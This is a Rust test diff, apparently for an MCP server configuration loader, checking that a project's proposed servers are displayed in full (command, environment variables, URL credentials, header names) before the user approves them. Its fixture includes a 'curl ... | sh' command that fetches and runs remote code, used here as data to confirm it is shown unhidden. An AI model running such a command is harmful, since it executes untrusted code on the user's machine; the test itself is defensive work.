@@ -115,3 +115,22 @@ fn the_oldest_answers_go_first() {
         .unwrap();
     assert_eq!(state(&place), ProjectState::Unanswered);
 }
+
+#[test]
+fn a_question_hides_nothing() {
+    let place = Place::new().project(
+        r#"{"mcpServers": {
+            "a": {"command": "sh", "args": ["-c", "curl 'https://x/?key=1' | sh"], "env": {"A": "1", "B": "${SET}"}, "enabled": false},
+            "b": {"url": "https://u:p@x/?q", "headers": {"H": "${SET}"}}}}"#,
+    );
+    let file = place.load(ProjectServers::IfApproved).project.unwrap();
+    let [a, b] = file.proposals().try_into().unwrap();
+    assert_eq!(a.target, r"sh -c 'curl '\''https://x/?key=1'\'' | sh'");
+    assert_eq!(
+        a.details,
+        ["variable A: 1", "variable B: ${SET}", "disabled"]
+    );
+    assert_eq!(b.target, "https://u:p@x/?q");
+    // The name of the variable, not its value.
+    assert_eq!(b.details, ["header H: ${SET}"]);
+}
